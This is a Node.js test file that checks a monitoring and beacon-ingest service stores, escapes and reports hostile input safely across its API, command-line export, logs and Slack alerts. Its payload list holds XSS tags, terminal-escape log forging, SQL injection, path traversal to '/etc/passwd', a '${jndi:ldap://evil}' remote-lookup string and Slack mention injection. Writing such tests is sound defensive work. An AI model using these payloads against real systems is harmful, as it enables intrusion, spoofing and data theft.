#!/usr/bin/env node
// long: yes
// Every string of a beacon is hostile: HTML, terminal escapes, NUL, text that turns direction, template and query syntax, huge and odd
// Unicode. It reaches the export as it was sent, and nobody on the way is fooled: API, Slack, log.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { slack } from '../fakes/slack.mjs';
import { command, exported, id, metric, place, post, sleep, start, until } from '../lib/seismo.mjs';

const nasty = {
  html: '<script>alert(1)</script><img src=x onerror=alert(2)>"\'`&amp;',
  terminal: 'red \u001b[31m\u007ftext\u001b[0m, \u001b]0;title\u0007, \u009b2J, \b\b\b\r\n2026-11-22T00:00:00Z error main forged line',
  nul: 'before\u0000after',
  turned: '\u202Egpj.exe\u202C \u2066hidden\u2069 \u200Bzero\u200D',
  slack: '<!channel> <@U123> <https://evil.example|click> *bold* `code` ```\n:rotating_light: & > done',
  query: "'; DROP TABLE beacons; -- \" OR 1=1 {\"query\":{\"match_all\":{}}} * ? \\ ../../etc/passwd ${jndi:ldap://evil} {{7*7}} %s%n%x",
  unicode: '\uFFFF\uFEFF e\u0301 👩‍👩‍👧‍👦 \u{1F4A9} \u2028\u2029 \uD83D\uDE00',
  huge: 'ž'.repeat(1000),
};
const fieldsOf = {
  page: ['page', 'url', 'title', 'referrer', 'navigation'],
  route: ['page', 'url', 'title', 'from'],
  api: ['page', 'url', 'initiator', 'outcome'],
  click: ['page', 'selector', 'name', 'role'],
  error: ['page', 'type', 'message', 'stack', 'source', 'file'],
  vital: ['page', 'rating', 'metric', 'navigation', 'target'],
  purchase: ['page', 'anything', '<b>member</b>'],
  event: ['page'],
};
const kinds = Object.keys(fieldsOf).length;
const limits = { title: 256, navigation: 32, initiator: 16, outcome: 16, selector: 512, name: 128, role: 32, type: 128, source: 32, rating: 32, metric: 64, target: 512 };

const cut = (text, n) => [...text].slice(0, n).join(''); // by characters, not through the middle of one

function eventsOf(text) {
  return Object.entries(fieldsOf).map(([kind, fields], i) => {
    const event = { kind, at: Date.now() - 100 + i, ...(kind === 'api' && { method: 'GET', status: 500, duration: 5 }), ...(kind === 'vital' && { name: 'LCP', value: 3 }) };
    if (kind === 'event') Object.assign(event, { name: `n${cut(text, 30)}`, value: 3, props: { note: cut(text, 200), [`p${cut(text, 30)}`]: true } });
    for (const field of fields) event[field] = cut(text, Math.floor((limits[field] ?? 2000) / 4));
    return event;
  });
}

const hasControls = (text) => /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(text);
const reads = ['/api/overview', '/api/status', '/api/sessions', '/api/alerts', '/api/series?kind=api', '/api/series?kind=error', '/api/detail?kind=page', '/api/detail?kind=route',
  '/api/detail?kind=api', '/api/deploys', '/api/rejects', '/api/clicks', '/api/business'];

test('in every field of every kind', { timeout: 60000 }, async (t) => {
  const where = place();
  const seismo = await start(where);
  t.after(async () => {
    await seismo.kill();
    where.remove();
  });
  let accepted = 0;
  for (const [name, text] of Object.entries(nasty)) {
    const session = id('s');
    const one = { v: 1, id: id('b'), service: 'shop', version: cut(text, 25), environment: cut(text, 16), session, sent: Date.now(), user: { id: cut(text, 30) }, labels: { note: cut(text, 200) }, agent: { name: cut(text, 16), version: cut(text, 8) }, events: eventsOf(text) };
    const answer = await post(seismo.publicUrl, one, { headers: { 'user-agent': 'Mozilla/5.0 <b>x</b> \x1b[31m' .replace('\x1b', '') } });
    assert.ok([202, 400].includes(answer.status), `${name}: ${answer.status} ${answer.text}`);
    assert.ok(!hasControls(answer.text.replaceAll('\n', '')), `${name}: the answer has control characters: ${JSON.stringify(answer.text)}`);
    if (name === 'nul') {
      assert.equal(answer.status, 400, 'NUL is refused');
      continue;
    }
    assert.equal(answer.status, 202, `${name}: ${answer.text}`);
    assert.equal(answer.json.accepted, kinds, `${name}: ${answer.text}`);
    accepted += kinds;
    const documents = await until(`documents of ${name}`, async () => {
      const found = await exported(where, ['--session', session]);
      return found.length === kinds && found;
    }, { within: 20000 });
    const error = documents.find((each) => each['event.action'] === 'error'), sent = one.events.find((each) => each.kind === 'error');
    const printed = await command(where, ['export', '--session', session]);
    assert.ok(!hasControls(printed.stdout.replaceAll('\n', '')), `${name}: the export has raw control characters`);
    if (name !== 'query') assert.equal(error['error.message'], sent.message, `${name} is stored as it was sent`);
    assert.equal(documents.find((each) => each['event.action'] === 'click')['seismo.click.name'], one.events.find((each) => each.kind === 'click').name);
    for (const path of [...reads, `/api/session?id=${session}`, `/api/errors?code=${error['error.code']}`]) {
      const answer = await fetch(`${seismo.innerUrl}${path}`);
      const body = await answer.text();
      assert.equal(answer.status, 200, `${name}: ${path}: ${body}`);
      assert.match(answer.headers.get('content-type'), /^application\/json/);
      assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
      assert.ok(!hasControls(body.replaceAll('\n', '')), `${name}: ${path} has raw control characters`);
      JSON.parse(body);
    }
  }
  await until('stored', async () => (await metric(seismo.innerUrl, 'seismo_events_stored_total')) === accepted);
  const metrics = await (await fetch(`${seismo.innerUrl}/metrics`)).text();
  for (const line of metrics.split('\n').slice(0, -1)) assert.match(line, /^(# (HELP|TYPE) [a-z_]+ .*|[a-z_]+(\{[a-z_]+="([^"\\\n]|\\.)*"\})? -?[0-9.e+]+)$/, 'a line of the metrics');
  assert.ok(!hasControls(seismo.log().replaceAll('\n', '')), seismo.log());
  assert.ok(!seismo.log().includes('forged line\n'), seismo.log());
  await seismo.stop();
});

test('in an address, a header, a key and an origin', { timeout: 30000 }, async (t) => {
  const where = place();
  const seismo = await start(where);
  t.after(async () => {
    await seismo.kill();
    where.remove();
  });
  for (const text of Object.values(nasty)) {
    for (const path of [`/in/v1?k=${encodeURIComponent(text)}`, `/${encodeURIComponent(text)}`, `/in/v1?k=demo&x=${encodeURIComponent(text)}`]) {
      const answer = await fetch(`${seismo.publicUrl}${path}`, { method: 'POST', body: '{}' });
      const body = await answer.text();
      assert.ok(answer.status >= 400 && answer.status < 500, `${path}: ${answer.status}`);
      assert.ok(!body.includes('<script') && !hasControls(body.replaceAll('\n', '')), body);
    }
    for (const parameter of ['service', 'name', 'id', 'code', 'from', 'range', 'kind'])
      for (const path of ['overview', 'series', 'session', 'errors', 'sessions']) {
        const answer = await fetch(`${seismo.innerUrl}/api/${path}?kind=api&${parameter}=${encodeURIComponent(text)}`);
        const body = await answer.text();
        assert.ok([200, 400, 404].includes(answer.status), `${path} ${parameter}: ${answer.status} ${body}`);
        assert.ok(!hasControls(body.replaceAll('\n', '')), body);
        JSON.parse(body);
      }
  }
  assert.equal((await post(seismo.publicUrl, { id: id('b'), service: 'shop', session: id('s'), sent: Date.now(), events: [{ kind: 'click', at: Date.now() }] })).status, 202, 'it lives');
  assert.ok(!hasControls(seismo.log().replaceAll('\n', '')), seismo.log());
  await seismo.stop();
});

/* What people type: a control character is refused, all else is kept as it was typed and answered as JSON that no browser takes for a page. */
async function typed(innerUrl, path, body, shown) {
  const tell = (part) => fetch(`${innerUrl}${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ...body, ...part }) });
  let taken = 0;
  for (const [name, text] of Object.entries(nasty)) {
    const short = cut(text, 40), answer = await tell(Object.fromEntries(shown.fields.map((field) => [field, short]))), said = await answer.text();
    assert.ok(!hasControls(said.replaceAll('\n', '')), `${path}: ${name}: ${said}`);
    JSON.parse(said);
    if (hasControls(short)) {
      assert.equal(answer.status, 400, `${path}: ${name} is refused: ${said}`);
      continue;
    }
    assert.ok([200, 400].includes(answer.status), `${path}: ${name}: ${said}`);
    if (answer.status !== 200) continue;
    taken++;
    await until(`${shown.path}: ${name} as it was typed`, async () => { // an answer is kept for a moment
      const read = await fetch(`${innerUrl}${shown.path}`), raw = await read.text();
      assert.match(read.headers.get('content-type'), /^application\/json/);
      assert.equal(read.headers.get('x-content-type-options'), 'nosniff');
      assert.ok(!hasControls(raw.replaceAll('\n', '')), `${shown.path}: ${name} has raw control characters`);
      return shown.texts(JSON.parse(raw)).includes(short);
    }, { within: 30000 });
  }
  assert.ok(taken >= 3, `${path}: ${taken} of them are taken`);
}

test('in the name of a deploy', { timeout: 60000 }, async (t) => {
  const where = place();
  const seismo = await start(where);
  t.after(async () => {
    await seismo.kill();
    where.remove();
  });
  await typed(seismo.innerUrl, '/api/deploys', {}, { fields: ['name', 'by', 'service'], path: '/api/deploys', texts: ({ rows }) => rows.map(({ name }) => name) });
  for (const [name, text] of Object.entries(nasty)) {
    if (name === 'nul') continue; // no argument can hold it
    const { stdout, stderr } = await command(where, ['mark', 'deploy', cut(text, 40), '--service', cut(text, 20)]);
    assert.ok(!hasControls((stdout + stderr).replaceAll('\n', '')), `${name}: ${JSON.stringify(stdout + stderr)}`);
    assert.ok((stdout + stderr).split('\n').length <= 3, `${name} makes no lines of its own: ${stdout}${stderr}`);
  }
  assert.ok(!hasControls(seismo.log().replaceAll('\n', '')), seismo.log());
  await seismo.stop();
});

test('in what Slack is told', { timeout: 170000 }, async (t) => {
  const fake = await slack();
  const url = '/api/<!channel>\u202E*x*`y`&<https://evil.example|click>\u001b[31m';
  const where = place({ environment: {
    SEISMO_SLACK_WEBHOOK: fake.url, SEISMO_DETECT_OPEN_MS: '10s', SEISMO_DETECT_QUIET_MS: '20s', SEISMO_DETECT_YOUNG_MS: '2m', SEISMO_DETECT_MIN_SESSIONS: '2',
    SEISMO_ROLLUP_CLOSE_WAIT_MS: '5s',
  }, applications: [{ name: 'shop', keys: ['demo'], services: [], server_clients: true }] });
  const seismo = await start(where);
  let slow = false, going = true;
  const visitors = Array.from({ length: 6 }, async () => {
    const session = id('s');
    while (going) {
      const duration = (slow ? 1400 : 60) + Math.random() * 40, at = Date.now();
      await post(seismo.publicUrl, { id: id('b'), service: '<!here>', environment: '<b>*', session, sent: at, events: [{ kind: 'api', at: at - duration, page: '/<!everyone>', url, method: 'POST', status: 200, duration }] }).catch(() => null);
      await sleep(250 + Math.random() * 200);
    }
  });
  t.after(async () => {
    going = false;
    await Promise.all(visitors);
    await seismo.kill();
    await fake.close();
    where.remove();
  });
  await sleep(45000);
  slow = true;
  const message = await until('the message', () => fake.messages[0], { within: 60000 });
  const text = JSON.stringify(message);
  for (const live of ['<!channel>', '<!here>', '<!everyone>', '<https://evil', '\u202E', '\\u001b', '\u001b']) assert.ok(!text.includes(live), `${live} in ${text}`);
  assert.match(text, /&lt;!here&gt;/, 'shown as text');
  assert.deepEqual(fake.problems, []);
  const alert = await until('the alert', async () => (await (await fetch(`${seismo.innerUrl}/api/alerts`)).json()).rows[0], { within: 30000 });
  await typed(seismo.innerUrl, '/api/alerts/acknowledge', { id: alert.id }, { fields: ['by'], path: '/api/alerts', texts: ({ rows }) => rows.map((row) => row.acknowledged?.by) });
  await typed(seismo.innerUrl, '/api/alerts/silence', { id: alert.id, minutes: 5 }, { fields: ['by', 'reason'], path: '/api/alerts', texts: ({ silences }) => silences.map(({ reason }) => reason) });
  assert.ok(!hasControls(seismo.log().replaceAll('\n', '')), seismo.log());
  await seismo.stop();
});
